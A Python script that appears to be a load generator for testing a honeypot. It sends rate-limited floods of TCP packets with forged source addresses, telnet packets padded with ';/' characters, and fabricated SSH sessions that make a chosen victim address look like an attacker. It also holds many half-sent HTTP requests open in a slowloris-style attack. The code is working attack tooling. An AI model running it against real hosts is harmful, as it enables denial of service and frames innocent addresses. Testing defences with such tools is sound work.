"""Floods on the strangers' wire, and idle connections to the page; stops by itself.

``sender.py KIND SECONDS INTERFACE GATEWAY_MAC HONEYPOT VICTIM PACKETS_PER_S`` for ``contacts`` (a
bare ACK each from another forged address), ``telnet`` (blind packets full of ``;/`` to port 23,
likewise) and ``sessions`` (both halves of SSH sessions between VICTIM and the honeypot);
``sender.py idle SECONDS HOST PORT COUNT``. Prints how much was sent.
"""

import socket
import struct
import sys
import time
from collections.abc import Iterator
from typing import Any

from scapy.compat import raw
from scapy.layers.inet import IP, TCP
from scapy.packet import Raw


def checksum(data: bytes) -> int:
    """RFC 1071, of an even number of bytes."""
    total: int = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def blind(honeypot: bytes, port: int, flags: int, payload: bytes, first: int) -> Iterator[bytes]:
    """IPv4 packets to the honeypot, each from another address of a /8; ``port`` 0: any."""
    size = 40 + len(payload)
    number = 0
    while True:
        source = struct.pack(">I", (first << 24) + (number * 2654435761 & 0xFFFFFF))
        head = struct.pack(
            ">BBHHHBBH4s4s",
            *(0x45, 0, size, number & 0xFFFF, 0x4000, 64, 6, 0, source, honeypot),
        )
        here, there = 1024 + number % 60000, port or 1 + number % 1000
        tcp = struct.pack(">HHIIBBHHH", here, there, number, 1, 0x50, flags, 65535, 0, 0)
        yield head[:10] + struct.pack(">H", checksum(head)) + head[12:] + tcp + payload
        number += 1


def sessions(victim: str, honeypot: str) -> Iterator[bytes]:
    """Refused passwords over SSH, as a forger has them who sees no answer and needs none."""
    there, back = IP(src=victim, dst=honeypot), IP(src=honeypot, dst=victim)
    port = 20000
    while True:
        port = 20000 + (port + 1) % 40000
        ask: dict[str, Any] = {"sport": port, "dport": 22}
        answer: dict[str, Any] = {"sport": 22, "dport": port}
        for packet in (
            there / TCP(**ask, flags="S", seq=100),
            back / TCP(**answer, flags="SA", seq=900, ack=101),
            there / TCP(**ask, flags="A", seq=101, ack=901),
            back / TCP(**answer, flags="PA", seq=901, ack=101) / Raw(b"SSH-2.0-OpenSSH_9.2\r\n"),
            there / TCP(**ask, flags="PA", seq=101, ack=922) / Raw(b"SSH-2.0-libssh\r\n"),
            there / TCP(**ask, flags="PA", seq=117, ack=922) / Raw(b"x" * 900),
            back / TCP(**answer, flags="PA", seq=922, ack=1017) / Raw(b"y" * 900),
            there / TCP(**ask, flags="FA", seq=1017, ack=1822),
            back / TCP(**answer, flags="FA", seq=1822, ack=1018),
        ):
            yield raw(packet)


def send(packets: Iterator[bytes], interface: str, mac: str, rate: float, seconds: float) -> int:
    """At ``rate`` packets a second; how many."""
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((interface, 0))
    frame = bytes.fromhex(mac.replace(":", "")) + b"\2\0\0\0\0\1\x08\0"
    begin, sent = time.monotonic(), 0
    while time.monotonic() - begin < seconds:
        out.send(frame + next(packets))
        sent += 1
        if sent % 20 == 0:
            time.sleep(max(0.0, begin + sent / rate - time.monotonic()))
    return sent


def hold(host: str, port: int, count: int, seconds: float) -> int:
    """So many connections with half a head each, opened again when closed; how many were opened."""
    held: list[socket.socket] = []
    opened = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        kept = []
        for one in held:
            try:
                if one.recv(100):
                    kept.append(one)
                else:
                    one.close()
            except BlockingIOError:
                kept.append(one)
            except OSError:
                one.close()
        held = kept
        while len(held) < count:
            try:
                one = socket.create_connection((host, port), 1.0)
                one.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: ")
            except OSError:
                break
            one.setblocking(False)
            held.append(one)
            opened += 1
        time.sleep(0.05)
    return opened


def main(kind: str, seconds: float, *words: str) -> int:
    """As on the command line."""
    if kind == "idle":
        host, port, count = words
        return hold(host, int(port), int(count), seconds)
    interface, mac, honeypot, victim, rate = words
    target = socket.inet_aton(honeypot)
    packets = {
        "contacts": lambda: blind(target, 0, 0x10, b"x", 0x17),
        "telnet": lambda: blind(target, 23, 0x18, (b";/" * 730)[:1459] + b"\n", 0x0B),
        "sessions": lambda: sessions(victim, honeypot),
    }[kind]()
    return send(packets, interface, mac, float(rate), seconds)


if __name__ == "__main__":
    print(main(sys.argv[1], float(sys.argv[2]), *sys.argv[3:]))
